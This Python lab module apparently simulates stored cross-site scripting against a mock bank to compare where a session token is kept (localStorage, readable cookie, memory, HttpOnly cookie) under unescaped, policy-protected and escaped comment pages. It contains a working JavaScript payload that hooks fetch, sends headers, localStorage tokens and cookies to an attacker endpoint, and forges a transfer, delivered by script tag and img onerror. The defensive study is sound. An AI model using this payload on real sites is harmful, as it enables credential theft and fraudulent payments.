"""What injected script gets: four places to keep a credential.

Mallory posts a comment with a script in it.  Alice logs in, looks
again, and pays Bob one coin; in between, the script does what it can.
"""

import html
import json
from dataclasses import dataclass, replace
from typing import Any

from werkzeug.wrappers import Request, Response

from demo.contenders import COOKIE, Contender, contender
from demo.evidence.browsers import NOTHING
from demo.schemes import Session
from labs.browser.bank import (
    POLICY,
    Bank,
    Look,
    log_in,
    open_bank,
    pay,
    pays,
    visit,
    whom,
)
from labs.browser.browsers import Chromium
from labs.browser.sites import BANK, EVIL, Sites

INJECTED = """
(() => {
  if (window.came) { window.came.push("WAY"); return; }
  window.came = ["WAY"];
  const real = window.fetch;
  window.fetch = async (path, options = {}) => {
    const answer = await real(path, options);
    if (path !== "/statement" || !answer.ok || window.done) return answer;
    window.done = true;
    const headers = options.headers || {};
    const loot = {"fetch hook": headers.Authorization || "",
      "localStorage": localStorage.getItem("token") || "",
      "document.cookie": document.cookie};
    await real("LOOT", {method: "POST", mode: "no-cors",
      body: JSON.stringify(loot)}).catch(() => null);
    await real("/transfer", {method: "POST", headers,
      body: new URLSearchParams({to: "mallory", amount: "7"})});
    return answer; };
})()
"""
"""Mallory's script: send away all that it finds, then pay Mallory."""

JWT = contender("JWT HS256")

READABLE = Contender(
    "session", Session, replace(COOKIE, name="session", http_only=False)
)


@dataclass(frozen=True)
class Rung:
    """keeps: where the page's code keeps a token, if it gets one."""

    name: str
    contender: Contender
    keeps: str = "nowhere"


RUNGS = (
    Rung("localStorage", JWT, "localStorage"),
    Rung("readable cookie", READABLE),
    Rung("memory", JWT, "memory"),
    Rung("HttpOnly cookie", contender("session cookie")),
)

PAGES = {
    "comments unescaped": Look(escape=False),
    "strict policy": Look(escape=False, policy=POLICY),
    "comments escaped": Look(),
}


class Thief:
    """Mallory's server.  loot: what scripts have sent it."""

    def __init__(self) -> None:
        self.loot: dict[str, str] = {}
        self.page = ""

    def __call__(self, environ: dict[str, Any], start_response: Any) -> Any:
        request = Request(environ)
        if request.path == "/loot" and request.method == "POST":
            found = json.loads(request.get_data(as_text=True))
            self.loot = {way: text for way, text in found.items() if text}
        response = Response(self.page, mimetype="text/html")
        return response(environ, start_response)


def ladder(
    browser: Chromium, sites: Sites
) -> dict[str, dict[str, dict[str, str]]]:
    """By page and by rung: what the script got."""
    return {
        name: {rung.name: climb(browser, sites, rung, look) for rung in RUNGS}
        for name, look in PAGES.items()
    }


def climb(
    browser: Chromium, sites: Sites, rung: Rung, look: Look
) -> dict[str, str]:
    """One rung: ran, found in, replayed elsewhere, ridden in the page."""
    browser.forget(sites.url(BANK))
    thief = sites.apps[EVIL] = Thief()
    look = replace(look, keeps=rung.keeps)
    with open_bank(sites, rung.contender, look) as bank:
        bank.comments.append(injection(sites))
        log_in(browser, sites)
        visit(browser, sites)
        if rung.keeps == "memory":  # gone with the page that held it
            log_in(browser, sites)
        bob = bank.balance("bob")
        pay(browser)
        return {
            "ran": ", ".join(sorted(came(browser))) or NOTHING,
            "found in": ", ".join(sorted(thief.loot)) or NOTHING,
            "ridden": ridden(bank),
            "replayed": replayed(sites, bank, thief.loot),
            "honest user": "pays" if bank.balance("bob") > bob else NOTHING,
        }


def injection(sites: Sites) -> str:
    """The comment: a script, and an image that cannot load."""
    script = INJECTED.replace("LOOT", sites.url(EVIL, "/loot"))
    attribute = html.escape(script.replace("WAY", "img onerror"))
    return (
        f"Great bank!<script>{script.replace('WAY', 'script')}</script>"
        f'<img hidden src="/none.png" onerror="{attribute}">'
    )


def came(browser: Chromium) -> set[str]:
    """Which of the two ran in the page."""
    return set(browser.run("window.came || []"))


def ridden(bank: Bank) -> str:
    """Did the script's transfer, of seven coins, go through?"""
    return "pays" if ("alice", "mallory", 7) in paid(bank) else NOTHING


def paid(bank: Bank) -> list[tuple[str, str, int]]:
    return [payment[:3] for payment in bank.payments]


def replayed(sites: Sites, bank: Bank, loot: dict[str, str]) -> str:
    """What the loot does in a client that is no browser."""
    headers = {}
    if loot.get("document.cookie"):
        headers["Cookie"] = loot["document.cookie"]
    token = loot.get("localStorage")
    bearer = loot.get("fetch hook") or (f"Bearer {token}" if token else "")
    if bearer:
        headers["Authorization"] = bearer
    if not headers or whom(sites, headers) != "alice":
        return NOTHING
    return "reads, pays" if pays(sites, bank, headers) else "reads"
